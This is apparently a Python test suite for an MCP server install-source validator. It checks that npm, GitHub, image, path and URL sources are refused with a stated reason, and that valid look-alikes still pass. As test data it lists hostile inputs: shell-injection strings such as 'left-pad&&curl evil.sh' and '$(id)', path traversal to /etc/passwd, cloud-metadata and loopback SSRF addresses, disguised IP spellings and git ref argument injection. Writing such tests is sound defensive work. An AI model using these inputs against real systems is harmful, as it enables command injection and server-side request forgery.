"""Hostile install sources, of every kind, each refused with the reason it is refused.

Each case goes through what the catalog does with a chat command's source: ``parse_source``
(the grammar) and then ``check_allowed`` (the policy; here with every kind enabled and no
allow-list, the most permissive configuration). The test asserts the refusal *and* that the
message names the reason. The look-alikes at the end are valid sources that must still pass.
"""

from __future__ import annotations

from pathlib import Path

import pytest

from clara.adapters.mcp import KINDS, InstallSource, SourceError, check_allowed, parse_source

ROOT = "/srv/mcp"
HEX64 = "0123456789abcdef" * 4
HEX128 = HEX64 * 2


def accepted(
    text: str, *, patterns: tuple[str, ...] = (), roots: tuple[str, ...] = (ROOT,)
) -> InstallSource:
    source = parse_source(text, path_roots=roots)
    check_allowed(source, KINDS, patterns)
    return source


NPM = [
    ("npm:left-pad@^1.0.0", "npm version"),
    ("npm:left-pad@~1.0.0", "npm version"),
    ("npm:left-pad@>=1", "contains '>'"),
    ("npm:left-pad@1.x", "npm version"),
    ("npm:left-pad@01.0.0", "npm version"),
    ("npm:left-pad@1.0.0-", "npm version"),
    ("npm:left-pad@latest@evil", "not an npm package name"),
    ("npm:left-pad@github:evil/pad", "npm version"),
    ("npm:left-pad@file:../x", "npm version"),
    ("npm:left-pad@http:evil", "npm version"),
    ("npm:left-pad@npm:evil-pad", "npm version"),
    ("npm:left-pad@--foo", "npm version"),
    ("npm:left-pad@git+https://evil.example/x", "registry is Clara.s setting"),
    ("npm:https://registry.npmjs.org.evil.com/left-pad", "registry is Clara.s setting"),
    ("npm:--registry=https://evil.example/x", "registry is Clara.s setting"),
    ("npm:--registry=evil", "not an npm package name"),
    ("npm:-g", "not an npm package name"),
    ("npm:@evil", "not an npm package name"),
    ("npm:@/pad", "not an npm package name"),
    ("npm:@scope/", "not an npm package name"),
    ("npm:@scope/a/b", "not an npm package name"),
    ("npm:_private", "not an npm package name"),
    ("npm:.bin", "not an npm package name"),
    ("npm:Left-Pad", "not an npm package name"),
    ("npm:\uff4ceft-pad", "not an npm package name"),  # fullwidth l
    ("npm:evil.example.com/pad", "not an npm package name"),
    ("npm:left-pad%40evil", "not an npm package name"),
    ("npm:left-pad#main", "not an npm package name"),
    ("npm:left-pad@", "nothing after '@'"),
    ("npm:" + "a" * 215, "npm allows 214"),
    ("npm:node_modules", "reserves"),
    ("npm:favicon.ico", "reserves"),
    ("npm:@scope/node_modules", "reserves"),
    ("npm:left pad", "contains ' '"),
    ("npm:left-pad\t", "contains '\\\\t'"),
    ("npm:left-pad@1.0.0\n", "contains '\\\\n'"),
    ("npm:left-pad@$(id)", "contains '\\$'"),
    ("left-pad;id", "contains ';'"),
    ("left-pad&&curl evil.sh", "contains '&'"),
    ("`id`", "contains '`'"),
    ("left-pad|sh", "contains '\\|'"),
    ("left-pad\x00", "contains"),
    ("a" * 301, "301 characters; 300 at most"),
]

GITHUB = [
    ("github:owner/x.git.git", "ends in '.git' more than once"),
    ("github:owner/repo.git.git#v1", "ends in '.git' more than once"),
    ("github:owner/.git", "GitHub repository ''"),
    ("github:-owner/repo", "GitHub owner"),
    ("github:owner-/repo", "GitHub owner"),
    ("github:own--er/repo", "GitHub owner"),
    ("github:own_er/repo", "GitHub owner"),
    ("github:" + "o" * 40 + "/repo", "GitHub owner"),
    ("github:owner/" + "r" * 101, "GitHub repository"),
    ("github:owner/..", "GitHub repository"),
    ("github:owner/.", "GitHub repository"),
    ("github:owner/-repo", "not starting with '-'"),
    ("github:owner/re po", "contains ' '"),
    ("github:owner/repo/extra", "write owner/repo"),
    ("github:owner", "write owner/repo"),
    ("github:github.com/owner/repo", "write owner/repo"),
    ("github.com.evil.example/owner/repo", "write owner/repo"),
    ("github:owner/repo#../x", "git ref"),
    ("github:owner/repo#-upload-pack=x", "git ref"),
    ("github:owner/repo#main.lock", "git ref"),
    ("github:owner/repo#feature.lock/x", "git ref"),
    ("github:owner/repo#feature/.hidden", "git ref"),
    ("github:owner/repo#a//b", "git ref"),
    ("github:owner/repo#main/", "git ref"),
    ("github:owner/repo#v1.", "git ref"),
    ("github:owner/repo#ma~in", "git ref"),
    ("github:owner/repo#ma:in", "git ref"),
    ("github:owner/repo#refs/heads/../x", "git ref"),
    ("github:owner/repo#" + "a" * 101, "git ref"),
    ("github:owner/repo@../../x", "git ref"),
    ("github:owner/repo#@{-1}", "contains '\\{'"),
    ("github:https://github.com/owner/repo", "registry is Clara.s setting"),
    ("owner/repo;id", "contains ';'"),
    ("git@github.com:owner/repo.git", "git@"),
    ("git+ssh://git@github.com/owner/repo", "git"),
    ("git+https://github.com/owner/repo", "git"),
    ("git://github.com/owner/repo", "git"),
    ("ssh://host/repo", "ssh"),
]

IMAGE = [
    ("image:ghcr.io/a/b@sha256:" + "a" * 63, "digest of the wrong length"),
    ("image:ghcr.io/a/b@sha256:" + "a" * 65, "digest of the wrong length"),
    ("image:ghcr.io/a/b@sha256:" + "a" * 32, "digest of the wrong length"),
    ("image:ghcr.io/a/b@sha512:" + HEX64, "digest of the wrong length"),
    ("image:ghcr.io/a/b:1@sha256:" + HEX128, "digest of the wrong length"),
    ("image:ghcr.io/a/b@md5:" + "a" * 32, "digest algorithm 'md5' is refused"),
    ("image:ghcr.io/a/b@sha1:" + "a" * 40, "digest algorithm 'sha1' is refused"),
    ("image:ghcr.io/a/b@sha384:" + "a" * 96, "digest algorithm 'sha384' is refused"),
    ("image:ghcr.io/a/b@SHA256:" + HEX64, "digest algorithm 'SHA256' is refused"),
    ("image:ghcr.io/a/b@sha256:" + "A" * 64, "not lower-case hex"),
    ("image:ghcr.io/a/b@sha256:" + "g" * 64, "not lower-case hex"),
    ("image:ghcr.io/a/b@sha256", "not ALGORITHM:HEX"),
    ("image:ghcr.io/a/b@", "not ALGORITHM:HEX"),
    ("image:ghcr.io/a/b@sha256:aa@sha256:bb", "more than one '@'"),
    ("image:evil.example/a/b", "registry 'evil.example' is chosen by the source"),
    ("image:ghcr.io.evil.example/a/b", "registry 'ghcr.io.evil.example' is chosen"),
    ("image:docker.io.evil/a", "registry 'docker.io.evil' is chosen"),
    ("image:localhost:5000/a/b", "registry 'localhost:5000' is chosen"),
    ("image:localhost.localdomain/a", "registry 'localhost.localdomain' is chosen"),
    ("image:127.0.0.1/a/b", "registry '127.0.0.1' is chosen"),
    ("image:169.254.169.254/a", "registry '169.254.169.254' is chosen"),
    ("image:[::1]:5000/a", r"registry '\[::1\]:5000' is chosen"),
    ("image:ghcr.io:443/a/b", "registry 'ghcr.io:443' is chosen"),
    ("image:registry.npmjs.org/a", "registry 'registry.npmjs.org' is chosen"),
    ("image:https://ghcr.io/a", "registry is Clara.s setting"),
    ("image:UPPER/case", "not an image reference"),
    ("image:a//b", "not an image reference"),
    ("image:a/b/", "not an image reference"),
    ("image:-a/b", "not an image reference"),
    ("image:a/-b", "not an image reference"),
    ("image:a/b..c", "not an image reference"),
    ("image:", "not an image reference"),
    ("image:a/b:", "the tag ''"),
    ("image:a/b:.bad", "the tag '.bad'"),
    ("image:a/b:" + "t" * 129, "the tag"),
    ("image:a/b:tag:extra", "the tag 'tag:extra'"),
    ("image:a/b:\uff54ag", "the tag"),  # fullwidth t
    ("image:" + "a/" * 130 + "b", "255 characters"),
    ("docker:foo", "unknown source prefix"),
]

PATH = [
    ("path:/srv/mcp/../../etc/passwd", r"'\.\.' \(path traversal\)"),
    ("/srv/mcp/srv/../../../etc/passwd", r"'\.\.' \(path traversal\)"),
    ("path:srv/server.py", "must be absolute"),
    ("./server.py", "must be absolute"),
    ("../../etc/passwd", "must be absolute"),
    ("~/server.py", "must be absolute"),
    ("/etc/passwd", "outside the allowed folders"),
    ("path:/srv/mcpx/server.py", "outside the allowed folders"),
    ("path:/srv/mcp/missing.py", "does not exist"),
    ("path:/srv/mcp/x;rm", "contains ';'"),
    ("path:/srv/mcp/$HOME", "contains '\\$'"),
    ("path:/srv/mcp/a\\b", "contains"),
    ("path:/srv/mcp/*.py", "contains '\\*'"),
    ("file:///etc/passwd", "file:"),
    ("file:../left-pad", "file:"),
]

URL = [
    # addresses never reached, whoever names them
    ("https://169.254.169.254/latest/meta-data", "link-local address"),
    ("https://[fe80::1]/", "link-local address"),
    ("https://[fe80::1%25eth0]/", "zone"),
    ("https://0.0.0.0/", "unspecified address"),
    ("https://[::]/", "unspecified address"),
    ("https://0.1.2.3/", "'this network' address"),
    ("https://224.0.0.1/", "multicast address"),
    ("https://[ff02::1]/", "multicast address"),
    ("https://255.255.255.255/", "broadcast address"),
    ("https://240.0.0.1/", "reserved address"),
    ("https://192.0.2.1/", "documentation address"),
    ("https://[2001:db8::1]/", "documentation address"),
    ("https://198.18.0.1/", "benchmarking address"),
    ("https://[fec0::1]/", "site-local address"),
    ("https://[::ffff:169.254.169.254]/", "IPv4-mapped address of 169.254.169.254, a link-local"),
    ("https://[64:ff9b::a9fe:a9fe]/", "NAT64 address of 169.254.169.254, a link-local"),
    ("https://[2002:a9fe:a9fe::]/", "6to4 address of 169.254.169.254, a link-local"),
    ("https://[2001::1]/", "Teredo tunnel address"),
    ("https://[::7f00:1]/", "IPv4-compatible address"),
    ("https://[100::1]/", "discard-only address"),
    # IPv4 in disguise
    ("https://2130706433/", "non-standard spelling"),
    ("https://0x7f000001/", "non-standard spelling"),
    ("https://0177.0.0.1/", "non-standard spelling"),
    ("https://127.1/", "non-standard spelling"),
    ("https://0x7f.0.0.1/", "non-standard spelling"),
    ("https://017700000001/", "non-standard spelling"),
    ("https://0/", "non-standard spelling"),
    ("https://1.2.3/", "non-standard spelling"),
    ("https://1.2.3.4.5/", "non-standard spelling"),
    ("https://256.1.1.1/", "non-standard spelling"),
    # this machine and the local network, not named by the operator
    ("https://127.0.0.1/", "127.0.0.1 is a loopback address.*CLARA_MCP_ALLOW names its host"),
    ("https://127.255.255.254/", "loopback address"),
    ("https://[::1]/", "::1 is a loopback address"),
    ("https://[::ffff:127.0.0.1]/", "IPv4-mapped address of 127.0.0.1, a loopback"),
    ("https://localhost/", "localhost is a loopback name"),
    ("https://LOCALHOST/", "localhost is a loopback name"),
    ("https://api.localhost/", "loopback name"),
    ("http://localhost:8080/", "loopback name.*CLARA_MCP_ALLOW"),
    ("http://127.0.0.1:8123/mcp", "loopback address.*CLARA_MCP_ALLOW"),
    ("https://10.0.0.5/mcp", "10.0.0.5 is a private address"),
    ("https://172.16.0.1/", "private address"),
    ("https://192.168.1.1/", "private address"),
    ("https://100.64.0.1/", "shared \\(carrier-grade NAT\\) address"),
    ("https://[fd00::1]/", "unique-local \\(private\\) address"),
    ("https://[::ffff:10.0.0.1]/", "IPv4-mapped address of 10.0.0.1, a private"),
    ("https://metadata.google.internal/", "local-network name \\(.internal\\)"),
    ("https://printer.local/", "local-network name \\(.local\\)"),
    ("https://router.lan/", "local-network name \\(.lan\\)"),
    ("https://nas.home.arpa/", "local-network name \\(.home.arpa\\)"),
    ("https://intranet/", "single-label \\(local\\) name"),
    # malformed hosts
    ("https://localhost./", "ends with '.'"),
    ("https://mcp.example.com./mcp", "ends with '.'"),
    ("https://a..example.com/", "empty label"),
    ("https://.example.com/", "empty label"),
    ("https://-mcp.example.com/", "label '-mcp'"),
    ("https://mcp-.example.com/", "label 'mcp-'"),
    ("https://mc_p.example.com/", "label 'mc_p'"),
    ("https://" + "a" * 64 + ".com/", "is not 1 to 63 letters"),
    ("https://" + ("a" * 60 + ".") * 5 + "com/", "308 characters; 253 at most"),
    ("https://xn--80ak6aa92e.com/", "punycode label"),
    ("https://\u0430\u0440\u0440\u04cf\u0435.com/mcp", "non-ASCII"),  # Cyrillic "apple"
    ("https://mcp%2eexample.com/", "percent-encoded"),
    ("https:///path", "the host is empty"),
    ("https://[::1/", "opens '\\['"),
    ("https://[not-v6]/", "not an IPv6 address"),
    ("https://::1/", "more than one ':'"),
    # credentials and parser tricks
    ("https://user@mcp.example.com/", "credentials"),
    ("https://user:pass@mcp.example.com/mcp", "credentials"),
    ("https://:pass@mcp.example.com/", "credentials"),
    ("https://mcp.example.com@169.254.169.254/", "credentials"),
    ("https://registry.npmjs.org@evil.example/x", "credentials"),
    ("https://mcp.example.com\\@evil.example/", "contains"),
    ("https://mcp.example.com/#frag", "fragment"),
    # ports
    ("https://mcp.example.com:0/", "port '0'"),
    ("https://mcp.example.com:65536/", "port '65536'"),
    ("https://mcp.example.com:/", "port ''"),
    ("https://mcp.example.com:80a/", "port '80a'"),
    ("https://mcp.example.com:-1/", "port '-1'"),
    # schemes
    ("http://mcp.example.com/mcp", "plain http"),
    ("http://10.0.0.5/", "plain http"),
    ("http://169.254.169.254/", "link-local address"),
    ("ftp://mcp.example.com/", "scheme"),
    ("gopher://127.0.0.1:6379/", "scheme"),
    ("javascript://x", "scheme"),
    ("https://mcp.example.com/" + "p" * 500, "characters"),
]


@pytest.mark.parametrize(("text", "why"), NPM + GITHUB + IMAGE + PATH + URL)
def test_a_hostile_source_is_refused_and_the_error_says_why(text: str, why: str) -> None:
    with pytest.raises(SourceError, match=why):
        accepted(text)


def test_the_suite_covers_every_kind_with_at_least_150_cases() -> None:
    assert len(NPM + GITHUB + IMAGE + PATH + URL) >= 150
    assert min(len(cases) for cases in (NPM, GITHUB, IMAGE, PATH, URL)) >= 15


@pytest.mark.parametrize(
    ("text", "canonical"),
    [
        ("npm:left-pad", "npm:left-pad"),
        ("left-pad@1.3.0", "npm:left-pad@1.3.0"),
        ("npm:a.b-c_d~e@next", "npm:a.b-c_d~e@next"),
        ("npm:left-pad@1.0.0-rc.1+build.5", "npm:left-pad@1.0.0-rc.1+build.5"),
        ("github:owner/repo.git", "github:owner/repo"),
        ("github:owner/my.git.repo", "github:owner/my.git.repo"),
        ("github:owner/.github", "github:owner/.github"),
        ("github:o-w-n/repo#release/v1.2", "github:o-w-n/repo#release/v1.2"),
        ("owner/repo@v1", "github:owner/repo#v1"),
        ("image:ghcr.io/github/github-mcp-server:v1", "image:ghcr.io/github/github-mcp-server:v1"),
        ("image:docker.io/mcp/fetch", "image:docker.io/mcp/fetch"),
        ("image:mcp/fetch:latest", "image:mcp/fetch:latest"),
        (f"image:quay.io/org/x@sha256:{HEX64}", f"image:quay.io/org/x@sha256:{HEX64}"),
        (f"image:ghcr.io/a/b:1.0@sha512:{HEX128}", f"image:ghcr.io/a/b:1.0@sha512:{HEX128}"),
        ("image:localhost/clara-mcp-test:1", "image:localhost/clara-mcp-test:1"),
        ("image:registry.gitlab.com/g/p/server", "image:registry.gitlab.com/g/p/server"),
        ("image:a__b/c--d", "image:a__b/c--d"),
        ("https://mcp.example.com/mcp", "https://mcp.example.com/mcp"),
        ("https://mcp.example.com:8443/v1/sse", "https://mcp.example.com:8443/v1/sse"),
        ("HTTPS://MCP.Example.COM/mcp", "https://mcp.example.com/mcp"),
        ("https://8.8.8.8/mcp", "https://8.8.8.8/mcp"),
        ("https://[2606:4700:4700::1111]/mcp", "https://[2606:4700:4700::1111]/mcp"),
        ("https://1password.example.co.uk/x", "https://1password.example.co.uk/x"),
        ("https://localhost-mcp.example.com/", "https://localhost-mcp.example.com/"),
        ("https://internal.example.com/", "https://internal.example.com/"),
    ],
)
def test_valid_look_alikes_still_pass(text: str, canonical: str) -> None:
    assert accepted(text).canonical == canonical


def test_a_path_inside_a_root_still_passes(tmp_path: Path) -> None:
    (tmp_path / "srv").mkdir()
    (tmp_path / "srv" / "server.py").write_text("")
    source = accepted(f"path:{tmp_path}/srv/server.py", roots=(str(tmp_path),))
    assert source.canonical == f"path:{tmp_path}/srv/server.py"


@pytest.mark.parametrize(
    ("text", "pattern"),
    [
        ("http://127.0.0.1:8123/mcp", "http://127.0.0.1:8123/*"),
        ("http://127.0.0.1:8123/mcp", "http://127.0.0.1:*"),
        ("http://localhost:8123/mcp", "http://localhost:*"),
        ("https://10.0.0.5/mcp", "https://10.0.0.5/*"),
        ("https://mcp.internal/mcp", "https://mcp.internal/*"),
    ],
)
def test_a_server_inside_the_network_passes_when_the_operator_names_its_host(
    text: str, pattern: str
) -> None:
    assert accepted(text, patterns=(pattern,)).canonical == text


@pytest.mark.parametrize(
    ("text", "pattern", "why"),
    [
        ("http://127.0.0.1:8123/mcp", "*", "never through a wildcard"),
        ("http://127.0.0.1:8123/mcp", "http://*", "never through a wildcard"),
        ("http://127.0.0.1:8123/mcp", "http://127.0.0.*:8123/*", "never through a wildcard"),
        ("http://127.0.0.1:8123/mcp", "http://127.0.0.[0-9]:8123/*", "never through a wildcard"),
        ("https://10.0.0.5/mcp", "https://10.0.0.6/*", "matches no pattern"),
        ("https://10.0.0.5/mcp", "https://x@10.0.0.5/*", "matches no pattern"),
    ],
)
def test_a_wildcard_or_another_host_does_not_vouch_for_an_internal_server(
    text: str, pattern: str, why: str
) -> None:
    with pytest.raises(SourceError, match=why):
        accepted(text, patterns=(pattern,))
